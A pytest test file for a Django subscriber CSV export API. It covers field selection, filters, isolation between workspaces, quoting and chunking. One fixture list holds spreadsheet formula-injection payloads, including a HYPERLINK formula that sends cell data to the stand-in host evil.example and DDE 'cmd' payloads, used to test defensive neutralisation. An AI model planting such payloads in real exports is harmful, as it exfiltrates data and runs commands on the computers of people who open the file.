"""Subscriber export jobs: the CSV matches the workspace's subscribers, and only it can get it."""

from __future__ import annotations

import csv
import io
import itertools
import json
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.db import DatabaseError, connection, transaction
from django.test import TestCase
from rest_framework.test import APIClient

from example_project.subscribers.bulk.exports import (
    _copy_out,
    export_file_name,
    export_storage,
    export_subscribers,
)
from example_project.subscribers.models import Subscriber
from example_project.workspaces.models import Workspace
from idempotency_jobs.jobs.tasks import execute_job
from idempotency_jobs.models import Job
from tests.example.test_support import export_media, make_key, no_jobs_run, workspace_client

__all__ = ["export_media", "make_key", "no_jobs_run", "workspace_client"]

pytestmark = pytest.mark.django_db

URL = "/v1/jobs/subscriber-exports"
T0 = datetime(2026, 4, 11, 9, 30, tzinfo=UTC)


@pytest.fixture(params=["portable", pytest.param("copy", marks=pytest.mark.postgresql)])
def export_path(request: pytest.FixtureRequest, settings: Any) -> str:
    """The portable writer, and on PostgreSQL the server-side COPY as well."""
    settings.EXAMPLE_SUBSCRIBER_EXPORT_USE_COPY = request.param == "copy"
    return str(request.param)


def add_subscribers(workspace: str, count: int, **fields: Any) -> list[Subscriber]:
    space, _ = Workspace.objects.get_or_create(name=workspace)
    return Subscriber.objects.bulk_create(
        Subscriber(
            workspace=space,
            email=f"{workspace}-{i}@example.com",
            name=f'Name "{i}", {workspace}',
            first_name=f"First{i}",
            last_name="Ünïcødé" if i % 2 else "",
            custom_fields={"plan": "pro" if i % 3 else "free"},
            status=Subscriber.Status.UNSUBSCRIBED if i % 5 == 0 else Subscriber.Status.ACTIVE,
            created_at=T0 + timedelta(minutes=i, microseconds=i),
            **fields,
        )
        for i in range(count)
    )


def run_export(api: APIClient, selection: dict[str, Any]) -> dict[str, Any]:
    with TestCase.captureOnCommitCallbacks(execute=True):
        created = api.post(URL, json.dumps(selection), content_type="application/json")
    assert created.status_code == 202, created.content
    job = api.get(created["Location"]).json()
    assert job["status"] == "succeeded", job
    return dict(job)


def download(api: APIClient, url: str) -> list[list[str]]:
    answer = api.get(url)
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer["Content-Disposition"]
    text = b"".join(answer.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_csv_matches_the_workspace_subscribers(
    workspace_client: Callable[..., APIClient], export_path: str
) -> None:
    api = workspace_client("acme")
    subscribers = add_subscribers("acme", 25)
    add_subscribers("other", 7)
    job = run_export(api, {})
    assert job["object"] == "subscriber_export_job"
    result = job["result"]
    assert result["row_count"] == 25
    # Absolute, like the job's Location: a client follows either as it is.
    assert result["url"] == f"http://testserver{URL}/{job['id']}/file"
    assert result["fields"] == ["email", "name", "first_name", "last_name", "status", "created_at"]
    rows = download(api, result["url"])
    assert rows[0] == result["fields"]
    assert rows[1:] == [
        [
            s.email,
            s.name,
            s.first_name,
            s.last_name,
            s.status,
            s.created_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        ]
        for s in subscribers
    ]
    assert job["progress"]["rows_written"] == 25


def test_fields_and_filters_select_columns_and_rows(
    workspace_client: Callable[..., APIClient], export_path: str
) -> None:
    api = workspace_client("acme")
    subscribers = add_subscribers("acme", 30)
    selection = {
        "fields": ["custom:plan", "email", "custom:missing"],
        "filters": {
            "status": ["active"],
            "created_after": (T0 + timedelta(minutes=10)).isoformat(),
            "created_before": (T0 + timedelta(minutes=20)).isoformat(),
        },
    }
    result = run_export(api, selection)["result"]
    expected = [
        [s.custom_fields["plan"], s.email, ""]
        for s in subscribers
        if s.status == "active"
        and T0 + timedelta(minutes=10) <= s.created_at < T0 + timedelta(minutes=20)
    ]
    assert result["row_count"] == len(expected) == 8
    assert download(api, result["url"]) == [["custom:plan", "email", "custom:missing"], *expected]


NUMERIC_KEYS = ["0", "7", "1_000", "01", "1.5", "1e3", "00"]


def test_numeric_custom_keys_export_their_values(
    workspace_client: Callable[..., APIClient], export_path: str
) -> None:
    """Keys that read as numbers are still object keys, never array indexes (Django's
    KeyTextTransform takes "0" and "1_000" for indexes, so they exported as empty cells)."""
    api = workspace_client("acme")
    mappings = [
        {"csv_column": "Email", "field": {"type": "email"}},
        *(
            {"csv_column": f"K{key}", "field": {"type": "custom", "key": key}}
            for key in NUMERIC_KEYS
        ),
    ]
    header = ",".join(["Email", *(f"K{key}" for key in NUMERIC_KEYS)])
    rows = [f"n{n}@example.com," + ",".join(f"{key}:{n}" for key in NUMERIC_KEYS) for n in range(3)]
    body = {"csv_text": "\n".join([header, *rows]) + "\n", "mappings": mappings}
    with TestCase.captureOnCommitCallbacks(execute=True):
        created = api.post("/v1/jobs/subscriber-imports", body, format="json")
    assert api.get(created["Location"]).json()["status"] == "succeeded"
    listed = api.get("/v1/subscribers").json()["results"]
    assert [s["custom_fields"] for s in listed] == [
        {key: f"{key}:{n}" for key in NUMERIC_KEYS} for n in range(3)
    ]
    fields = ["email", *(f"custom:{key}" for key in NUMERIC_KEYS)]
    result = run_export(api, {"fields": fields})["result"]
    assert download(api, result["url"]) == [
        fields,
        *([f"n{n}@example.com", *(f"{key}:{n}" for key in NUMERIC_KEYS)] for n in range(3)),
    ]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=",
    "'=1+1",  # neutralised already: one more quote, so that a re-import gets it back
    "''+1",
    "'quoted",
    "a=b",
    " =1+1",
    "",
    "plain",
]
FORMULA_EMAILS = ["=1+1@example.com", "-dash@example.com", "+plus@example.com", "a@example.com"]
FORMULA_FIELDS = ["email", "name", "first_name", "last_name", "custom:note", "status"]


def neutralised(value: str) -> str:
    """OWASP's leading quote before a cell that would start a formula, or before the quotes
    of a cell neutralised already."""
    return "'" + value if value.lstrip("'")[:1] in {*"=+-@\t\r"} - {""} else value


def add_formula_subscribers(workspace: str) -> list[Subscriber]:
    space, _ = Workspace.objects.get_or_create(name=workspace)
    count = len(FORMULAS)
    Subscriber.objects.bulk_create(
        Subscriber(
            workspace=space,
            email=FORMULA_EMAILS[i] if i < len(FORMULA_EMAILS) else f"f{i}@example.com",
            name=FORMULAS[i],
            first_name=FORMULAS[(i + 1) % count],
            last_name=FORMULAS[(i + 2) % count],
            # An empty cell never stores a custom field: none is stored empty here either.
            custom_fields={"note": note} if (note := FORMULAS[(i + 3) % count]) else {},
            created_at=T0 + timedelta(seconds=i),
        )
        for i in range(count)
    )
    return list(Subscriber.objects.filter(workspace=space).order_by("created_at", "id"))


def formula_row(s: Subscriber, neutralise: Callable[[str], str]) -> list[str]:
    cells = [s.email, s.name, s.first_name, s.last_name, s.custom_fields.get("note", "")]
    return [*map(neutralise, cells), s.status]


def test_cells_that_would_start_a_formula_are_neutralised(
    workspace_client: Callable[..., APIClient], export_path: str
) -> None:
    """docs/jobs.md#cells-that-would-start-a-formula, on by default: a leading ' before =, +, -, @,
    tab or CR, in every text column."""
    api = workspace_client("acme")
    subscribers = add_formula_subscribers("acme")
    result = run_export(api, {"fields": FORMULA_FIELDS})["result"]
    rows = download(api, result["url"])
    assert rows == [FORMULA_FIELDS, *(formula_row(s, neutralised) for s in subscribers)]
    assert rows[1][:2] == ["'=1+1@example.com", "'" + FORMULAS[0]]


def test_neutralising_formulas_can_be_turned_off(
    workspace_client: Callable[..., APIClient], export_path: str, settings: Any
) -> None:
    settings.EXAMPLE_SUBSCRIBER_EXPORT_NEUTRALISE_FORMULAS = False
    api = workspace_client("acme")
    subscribers = add_formula_subscribers("acme")
    result = run_export(api, {"fields": FORMULA_FIELDS})["result"]
    rows = download(api, result["url"])
    assert rows == [FORMULA_FIELDS, *(formula_row(s, str) for s in subscribers)]


def test_reimporting_a_neutralised_export_stores_the_exported_values(
    workspace_client: Callable[..., APIClient], export_path: str
) -> None:
    """The import reads a leading ' before a formula the way a spreadsheet does (a quote
    prefix, not data), so an export imported again into another workspace, or into the same
    one, stores exactly the values it was made from."""
    api = workspace_client("acme")
    subscribers = add_formula_subscribers("acme")
    result = run_export(api, {"fields": FORMULA_FIELDS})["result"]
    exported = b"".join(api.get(result["url"]).streaming_content).decode()
    mappings = [
        {"csv_column": "email", "field": {"type": "email"}},
        {"csv_column": "name", "field": {"type": "name"}},
        {"csv_column": "first_name", "field": {"type": "first_name"}},
        {"csv_column": "last_name", "field": {"type": "last_name"}},
        {"csv_column": "custom:note", "field": {"type": "custom", "key": "note"}},
    ]

    def values(workspace: str) -> list[tuple[Any, ...]]:
        return list(
            Subscriber.objects.filter(workspace__name=workspace)
            .order_by("email")
            .values_list("email", "name", "first_name", "last_name", "custom_fields")
        )

    before = values("acme")
    assert sorted(row[1] for row in before) == sorted(s.name for s in subscribers)
    other = workspace_client("other")
    for client in (other, api):
        with TestCase.captureOnCommitCallbacks(execute=True):
            created = client.post(
                "/v1/jobs/subscriber-imports",
                {"csv_text": exported, "mappings": mappings},
                format="json",
            )
        job = client.get(created["Location"]).json()
        assert job["status"] == "succeeded", job
        assert job["result"]["failed"] == 0, job["result"]
    assert job["result"]["created"] == job["result"]["updated"] == 0  # the same values
    assert values("acme") == values("other") == before


def test_an_empty_selection_is_a_header_only_file(
    workspace_client: Callable[..., APIClient], export_path: str
) -> None:
    api = workspace_client("acme")
    result = run_export(api, {"fields": ["email"]})["result"]
    assert result["row_count"] == 0
    assert download(api, result["url"]) == [["email"]]


def test_the_download_url_is_absolute_like_the_location(
    workspace_client: Callable[..., APIClient], settings: Any
) -> None:
    api = workspace_client("acme")
    add_subscribers("acme", 1)
    with TestCase.captureOnCommitCallbacks(execute=True):
        created = api.post(URL, {}, format="json", HTTP_HOST="api.example.org")
    job = api.get(created["Location"], HTTP_HOST="api.example.org").json()

    assert created["Location"] == f"http://api.example.org{URL}/{job['id']}"
    assert job["result"]["url"] == created["Location"] + "/file"
    assert api.get(created["Location"]).json()["result"]["url"].startswith("http://testserver/")

    settings.EXAMPLE_PUBLIC_BASE_URL = "https://downloads.example.org"
    again = run_export(api, {"fields": ["email"]})
    assert again["result"]["url"] == f"https://downloads.example.org{URL}/{again['id']}/file"


def test_another_workspace_gets_404_on_the_job_and_the_file(
    workspace_client: Callable[..., APIClient],
) -> None:
    acme, other = workspace_client("acme"), workspace_client("other")
    add_subscribers("acme", 3)
    job = run_export(acme, {})
    for url in (f"{URL}/{job['id']}", job["result"]["url"]):
        answer = other.get(url)
        assert answer.status_code == 404
        assert answer["Content-Type"] == "application/problem+json"
        assert answer.json()["status"] == 404
    assert len(download(acme, job["result"]["url"])) == 4
    assert APIClient().get(job["result"]["url"]).status_code == 401


def test_unfinished_or_unknown_exports_have_no_file(
    workspace_client: Callable[..., APIClient], no_jobs_run: None
) -> None:
    api = workspace_client()
    created = api.post(URL, {}, format="json")
    assert created.json()["status"] == "queued"
    for job_id in (created.json()["id"], "00000000-0000-0000-0000-000000000000", "nope"):
        answer = api.get(f"{URL}/{job_id}/file")
        assert answer.status_code == 404
        assert answer["Content-Type"] == "application/problem+json"


def test_running_the_export_again_rewrites_its_one_file(
    workspace_client: Callable[..., APIClient], no_jobs_run: None, export_media: Path
) -> None:
    api = workspace_client()
    add_subscribers("acme", 5)
    job_id = api.post(URL, {}, format="json").json()["id"]
    assert execute_job(job_id) == "succeeded"
    Subscriber.objects.filter(email="acme-0@example.com").delete()
    Job.objects.filter(pk=job_id).update(status=Job.Status.QUEUED)
    assert execute_job(job_id) == "succeeded"
    assert [p.name for p in (export_media / "exports").iterdir()] == [f"subscribers-{job_id}.csv"]
    assert Job.objects.get(pk=job_id).result["row_count"] == 4
    assert len(download(api, f"{URL}/{job_id}/file")) == 5


@pytest.mark.parametrize(
    ("selection", "message"),
    [
        ({"fields": ["password"]}, "Unknown field 'password'"),
        ({"fields": ["email", "email"]}, "A field is listed twice"),
        ({"fields": []}, "This list may not be empty"),
        ({"filters": {"status": ["gone"]}}, "is not a valid choice"),
        ({"filters": {"created_after": "yesterday"}}, "Datetime has wrong format"),
        (
            {"filters": {"created_after": "2026-02-01T00:00:00Z", "created_before": "2026-01-01"}},
            "created_after must be before created_before",
        ),
    ],
)
def test_bad_selections_are_400_problems(
    workspace_client: Callable[..., APIClient], selection: dict[str, Any], message: str
) -> None:
    answer = workspace_client().post(URL, selection, format="json")
    assert answer.status_code == 400
    assert answer["Content-Type"] == "application/problem+json"
    assert message in json.dumps(answer.json())


def test_export_in_many_steps_keeps_order_and_reports_progress(
    workspace_client: Callable[..., APIClient], export_path: str, settings: Any
) -> None:
    """Several COPY statements (or chunks) with heartbeats between them; ties in created_at
    are ordered by id, and no row is lost or repeated at a step boundary."""
    settings.EXAMPLE_SUBSCRIBER_EXPORT_PROGRESS_EVERY = 7
    settings.IDEMPOTENCY_JOBS = {**settings.IDEMPOTENCY_JOBS, "JOB_PROGRESS_INTERVAL": 0}
    api = workspace_client("acme")
    space = Workspace.objects.get(name="acme")
    Subscriber.objects.bulk_create(
        Subscriber(
            workspace=space,
            email=f"tie{i:02}@example.com",
            created_at=T0 + timedelta(seconds=i // 10),
        )
        for i in range(50)
    )
    job = run_export(api, {"fields": ["email"]})
    assert job["result"]["row_count"] == 50
    assert job["progress"] == {"rows_total": 50, "rows_written": 50}
    rows = download(api, job["result"]["url"])
    assert rows == [["email"], *([f"tie{i:02}@example.com"] for i in range(50))]


TRICKY = [
    "comma, inside",
    'quote " inside',
    '"quoted from start to end"',
    "line\nbreak",
    "crlf\r\nbreak",
    "carriage\rreturn",
    "  spaces around  ",
    "",
    "Ünïcødé ✓ 日本語 🎉",
    "back\\slash",
    "\\.",
    "tab\there",
    "'single', \"double\"\n,",
]
TRICKY_FIELDS = [
    "email",
    "name",
    "first_name",
    "last_name",
    "custom:note",
    "custom:missing",
    "status",
    "created_at",
    "updated_at",
]


def stamp(value: datetime) -> str:
    return value.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def add_tricky_subscribers(workspace: str, count: int) -> list[Subscriber]:
    """Values that need CSV quoting or escaping, in every text column, with ties in
    created_at; read back from the database so that the expected values are the stored ones."""
    space, _ = Workspace.objects.get_or_create(name=workspace)
    Subscriber.objects.bulk_create(
        Subscriber(
            workspace=space,
            email=f'"odd,{i}"@example.com' if i % 4 == 0 else f"tricky{i}@example.com",
            name=TRICKY[i % len(TRICKY)],
            first_name=TRICKY[(i + 3) % len(TRICKY)],
            last_name=TRICKY[(i + 7) % len(TRICKY)],
            custom_fields={"note": TRICKY[(i + 5) % len(TRICKY)]},
            status=Subscriber.Status.BOUNCED if i % 3 == 0 else Subscriber.Status.ACTIVE,
            created_at=T0 + timedelta(seconds=i // 4, microseconds=0 if i % 2 else 250000),
            updated_at=T0 + timedelta(days=1, microseconds=i),
        )
        for i in range(count)
    )
    return list(Subscriber.objects.filter(workspace=space).order_by("created_at", "id"))


def tricky_row(s: Subscriber) -> list[str]:
    return [
        s.email,
        s.name,
        s.first_name,
        s.last_name,
        s.custom_fields["note"],
        "",
        s.status,
        stamp(s.created_at),
        stamp(s.updated_at),
    ]


def test_values_that_need_quoting_survive_every_step_and_chunk_boundary(
    workspace_client: Callable[..., APIClient], export_path: str, settings: Any
) -> None:
    """Commas, quotes, line breaks, unicode and empty strings in every column, with a
    step (COPY) and a fetch chunk ending after almost every row: the file reads back as
    exactly the database's rows, no more, no fewer."""
    settings.EXAMPLE_SUBSCRIBER_EXPORT_PROGRESS_EVERY = 3
    settings.EXAMPLE_SUBSCRIBER_EXPORT_CHUNK_SIZE = 2
    api = workspace_client("acme")
    subscribers = add_tricky_subscribers("acme", 41)
    add_tricky_subscribers("other", 5)
    result = run_export(api, {"fields": TRICKY_FIELDS})["result"]
    rows = download(api, result["url"])
    assert rows[0] == TRICKY_FIELDS
    assert rows[1:] == [tricky_row(s) for s in subscribers]
    assert (
        result["row_count"]
        == len(rows) - 1
        == Subscriber.objects.filter(workspace__name="acme").count()
    )


def test_filters_with_tricky_values_count_exactly_the_selected_rows(
    workspace_client: Callable[..., APIClient], export_path: str, settings: Any
) -> None:
    settings.EXAMPLE_SUBSCRIBER_EXPORT_PROGRESS_EVERY = 4
    settings.EXAMPLE_SUBSCRIBER_EXPORT_CHUNK_SIZE = 3
    api = workspace_client("acme")
    subscribers = add_tricky_subscribers("acme", 60)
    after, before = T0 + timedelta(seconds=2), T0 + timedelta(seconds=11, microseconds=1)
    selection = {
        "fields": TRICKY_FIELDS,
        "filters": {
            "status": ["active"],
            "created_after": after.isoformat(),
            "created_before": before.isoformat(),
        },
    }
    result = run_export(api, selection)["result"]
    expected = [
        tricky_row(s)
        for s in subscribers
        if s.status == "active" and after <= s.created_at < before
    ]
    assert 0 < len(expected) < len(subscribers) // 2
    assert download(api, result["url"])[1:] == expected
    assert result["row_count"] == len(expected)


class RecordingRun:
    """The job's progress calls, in order. Each one also runs a query on the export's own
    connection: progress written while a COPY held that connection once hung the job."""

    def __init__(self) -> None:
        self.calls: list[dict[str, Any]] = []

    def progress(self, **fields: Any) -> None:
        Job.objects.exists()
        self.calls.append(fields)


def test_progress_moves_between_steps_and_the_connection_stays_free(
    export_path: str, settings: Any
) -> None:
    settings.EXAMPLE_SUBSCRIBER_EXPORT_PROGRESS_EVERY = 10
    settings.EXAMPLE_SUBSCRIBER_EXPORT_CHUNK_SIZE = 4
    subscribers = add_subscribers("acme", 95)
    run = RecordingRun()
    workspace_id = subscribers[0].workspace_id
    result = export_subscribers(workspace_id, uuid.uuid4(), ["email"], {}, run)
    assert result["row_count"] == 95
    written = [call["rows_written"] for call in run.calls]
    assert {call["rows_total"] for call in run.calls} == {95}
    assert written[0] == 0
    assert written[-1] == 95
    assert written == sorted(written)
    moving = sorted(set(written) - {0, 95})
    assert len(moving) >= 6, written
    assert all(b - a <= 10 + 4 for a, b in itertools.pairwise([0, *moving, 95])), written


@pytest.mark.postgresql
def test_a_copy_failing_midway_raises_and_the_connection_goes_on() -> None:
    """The server fails the COPY after sending some rows: the export raises instead of
    keeping a short file, and the connection answers the next query."""
    failing = "COPY (SELECT 1 / (500 - g) FROM generate_series(1, 1000) AS g) TO STDOUT"
    with pytest.raises(DatabaseError, match="division by zero"), transaction.atomic():
        _copy_out(failing, [], io.BytesIO())
    assert (
        _copy_out("COPY (SELECT g FROM generate_series(1, 3) AS g) TO STDOUT", [], io.BytesIO())
        == 3
    )
    assert Job.objects.count() == 0


class FullDisk(io.BytesIO):
    def write(self, data: Any) -> int:
        if self.tell() > 1000:
            raise OSError(28, "No space left on device")
        return super().write(data)


@pytest.mark.postgresql
@pytest.mark.django_db(transaction=True)
def test_a_write_failing_midway_drops_the_connection_not_the_next_query() -> None:
    """Writing the file fails while the COPY streams: the connection, still in the COPY, is
    closed (the server stops sending), and the next query runs on a new one."""
    before = connection.connection
    with pytest.raises(OSError, match="No space left"):
        _copy_out("COPY (SELECT g FROM generate_series(1, 100000) AS g) TO STDOUT", [], FullDisk())
    assert Job.objects.count() == 0
    assert connection.connection is not before


class DeletingRun(RecordingRun):
    """Deletes the first exported subscriber at the first progress after some rows."""

    def progress(self, **fields: Any) -> None:
        super().progress(**fields)
        if fields["rows_written"] and len(self.calls) == 2:
            Subscriber.objects.filter(email="acme-0@example.com").delete()


@pytest.mark.postgresql
def test_rows_deleted_between_two_copies_move_no_step_boundary(settings: Any) -> None:
    """Each step's last row is looked up before its COPY: a row deleted behind the export
    cannot shift the next step past a row that was never written."""
    settings.EXAMPLE_SUBSCRIBER_EXPORT_USE_COPY = True
    settings.EXAMPLE_SUBSCRIBER_EXPORT_PROGRESS_EVERY = 5
    subscribers = add_subscribers("acme", 20)
    job_id = uuid.uuid4()
    result = export_subscribers(subscribers[0].workspace_id, job_id, ["email"], {}, DeletingRun())
    assert Subscriber.objects.count() == 19
    assert result["row_count"] == 20
    with export_storage().open(export_file_name(job_id)) as file:
        rows = list(csv.reader(io.StringIO(file.read().decode(), newline="")))
    assert rows == [["email"], *([s.email] for s in subscribers)]


@pytest.mark.parametrize("every", [1, 2, 24, 25, 26])
def test_every_step_size_writes_each_row_once(export_path: str, settings: Any, every: int) -> None:
    """Steps (and chunks) of one row, of a row count's divisors and of more than all rows."""
    settings.EXAMPLE_SUBSCRIBER_EXPORT_PROGRESS_EVERY = every
    settings.EXAMPLE_SUBSCRIBER_EXPORT_CHUNK_SIZE = every
    subscribers = add_subscribers("acme", 25)
    job_id, run = uuid.uuid4(), RecordingRun()
    result = export_subscribers(subscribers[0].workspace_id, job_id, ["email", "name"], {}, run)
    assert result["row_count"] == 25
    assert run.calls[0] == {"rows_total": 25, "rows_written": 0}
    assert run.calls[-1] == {"rows_total": 25, "rows_written": 25}
    with export_storage().open(export_file_name(job_id)) as file:
        rows = list(csv.reader(io.StringIO(file.read().decode(), newline="")))
    assert rows == [["email", "name"], *([s.email, s.name] for s in subscribers)]


def test_timestamps_stored_with_any_number_of_fraction_digits_export_with_six(
    export_path: str,
) -> None:
    """Django writes six digits, or none; rows loaded by other tools may carry three (SQLite
    keeps the text as written). Every one comes out as ``...SS.ffffffZ``."""
    subscribers = add_subscribers("acme", 3)
    if connection.vendor == "sqlite":
        written = ["2026-04-11 09:30:05.123", "2026-04-11 09:30:06", "2026-04-11 09:30:07.5"]
        with connection.cursor() as cursor:
            for subscriber, text in zip(subscribers, written, strict=True):
                cursor.execute(
                    "UPDATE subscribers_subscriber SET created_at = %s WHERE id = %s",
                    [text, subscriber.pk],
                )
    else:
        for subscriber, micro in zip(subscribers, [123000, 0, 500000], strict=True):
            stamp = T0 + timedelta(seconds=5 + subscribers.index(subscriber), microseconds=micro)
            Subscriber.objects.filter(pk=subscriber.pk).update(created_at=stamp)
    job_id = uuid.uuid4()
    export_subscribers(
        subscribers[0].workspace_id, job_id, ["email", "created_at"], {}, RecordingRun()
    )
    with export_storage().open(export_file_name(job_id)) as file:
        rows = list(csv.reader(io.StringIO(file.read().decode(), newline="")))
    assert [row[1] for row in rows[1:]] == [
        "2026-04-11T09:30:05.123000Z",
        "2026-04-11T09:30:06.000000Z",
        "2026-04-11T09:30:07.500000Z",
    ]
